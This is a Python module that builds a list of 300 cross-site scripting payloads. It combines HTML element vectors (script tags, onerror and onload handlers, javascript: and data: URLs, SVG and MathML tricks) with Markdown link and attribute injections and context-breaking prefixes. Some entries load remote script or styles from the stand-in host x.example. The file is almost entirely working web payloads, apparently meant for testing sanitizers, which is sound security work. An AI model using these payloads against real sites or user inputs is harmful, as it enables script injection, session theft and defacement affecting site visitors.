"""300 texts that run code where a page is careless: vectors, each behind several ways to break out of its place."""

from __future__ import annotations

from html import escape

ELEMENTS = """
<script>alert(1)</script>
<SCRIPT SRC=//x.example/a.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script >
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)//
<img src="x`<script>alert(1)</script>"`>
<img src=x onerror="&#97;lert(1)">
<IMG SRC=JaVaScRiPt:alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">x</math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<form action=javascript:alert(1)><button>x</button></form>
<button formaction=javascript:alert(1)>x</button>
<input autofocus onfocus=alert(1)>
<isindex action=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="&#x6A;avascript&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>x</a>
<a href=vbscript:msgbox(1)>x</a>
<a href="x" onmouseover=alert(1)>x</a>
<a style="background:url(javascript:alert(1))">x</a>
<body onload=alert(1)>
<base href=//x.example/>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=//x.example/a.css>
<style>@import "//x.example/a.css";</style>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<table background=javascript:alert(1)><tr><td>x
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><svg onload=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<!-- --!><script>alert(1)</script> -->
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<template><script>alert(1)</script></template>
<p/onclick=alert(1)>x
<x onclick=alert(1) tabindex=1>x</x>
<img src=x:x onerror=alert(1) x="
<b/**/onclick=alert(1)>x</b>
<a\x0chref="javascript:alert(1)">x</a>
<img src=x\x00onerror=alert(1)>
""".strip().split("\n")
BREAKS = [
    "",
    '">',
    "'>",
    "</title>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "</textarea>",
    '"}]}</script>',
    "&quot;&gt;",
    "\\u0022>",
]
MARKDOWN = """
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](<java\tscript:alert(1)>)
[x](\x01javascript:alert(1))
[x]( javascript:alert(1) "t")
[x](data:text/html,<script>alert(1)</script>)
[x](//x.example" onclick="alert(1))
[x](x.md" onclick="alert(1))
[x](#" onclick="alert(1))
[x](/a?b=" onmouseover="alert(1))
[x](https://x.example/'onclick='alert(1))
[x][a]
<javascript:alert(1)>
<data:text/html,x>
![x](javascript:alert(1))
![x](https://x.example/" onerror="alert(1))
![x" onerror="alert(1)](pic.png)
![x](pic.png "t" onerror="alert(1)")
![x](pic.png 't" onerror="alert(1)')
![x](pic.png){: onerror=alert(1) }
[x](https://x.example){: href=javascript:alert(1) onclick=alert(1) style=color:red }
# x {: onclick=alert(1) }
# x {#a"onclick="alert(1)}
`x`{: .a" onclick="alert(1) }
```js" onclick="alert(1)
*[x]: y" onclick="alert(1)
[^x" onclick="alert(1)]: y
!!! note" onclick="alert(1)
!!! "<img src=x onerror=alert(1)>"
| <img src=x onerror=alert(1)> |
> <script>alert(1)</script>
\x020\x03" onclick="alert(1)
\x02wzxhzdk:0\x03
{{ 7*7 }}<script>
${alert(1)}
javascript:alert(1)
data:text/html,<script>alert(1)</script>
" onclick="alert(1)
' onclick='alert(1)
` onclick=`alert(1)
\u2028alert(1)\u2029
\\u003cscript\\u003ealert(1)
%3Cscript%3Ealert(1)%3C/script%3E
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
""".strip("\n").split("\n")


def payloads() -> list[str]:
    """The 300 texts, each on one line."""
    broken = [BREAKS[number % len(BREAKS)] + vector for number, vector in enumerate(ELEMENTS * 3)]
    read_once = [escape(vector) for vector in ELEMENTS]
    return list(dict.fromkeys([*ELEMENTS, *MARKDOWN, *broken, *read_once]))[:300]
